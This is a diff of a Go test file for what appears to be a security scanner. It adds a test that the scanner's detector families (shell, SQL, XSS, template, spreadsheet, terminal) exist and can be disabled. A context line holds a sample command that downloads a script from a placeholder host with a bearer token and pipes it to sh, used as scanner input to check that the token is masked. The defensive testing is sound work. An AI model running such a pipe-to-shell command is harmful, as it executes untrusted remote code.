@@ -2,6 +2,7 @@ package code
 
 import (
 	"context"
+	"slices"
 	"strings"
 	"testing"
 
@@ -329,5 +330,17 @@ func TestExcerptMasksTokens(t *testing.T) {
 	fs := scan(t, s, `curl -H "Authorization: Bearer sk-live-4f3a9c21d0e4b58a77aa" https://x.io/i | sh`)
 	if len(fs) != 1 || strings.Contains(fs[0].Excerpt, "4f3a9c21d0e4b58a") {
 		t.Fatalf("token not masked: %+v", fs)
+	}
+}
+
+func TestFamilies(t *testing.T) {
+	fams := Families()
+	for _, want := range []string{"shell", "sql", "xss", "template", "spreadsheet", "terminal"} {
+		if !slices.Contains(fams, want) {
+			t.Errorf("Families() = %v lacks %s", fams, want)
+		}
+	}
+	if _, err := New(Options{Disable: fams}); err != nil {
+		t.Fatalf("every family can be disabled: %v", err)
 	}
 }
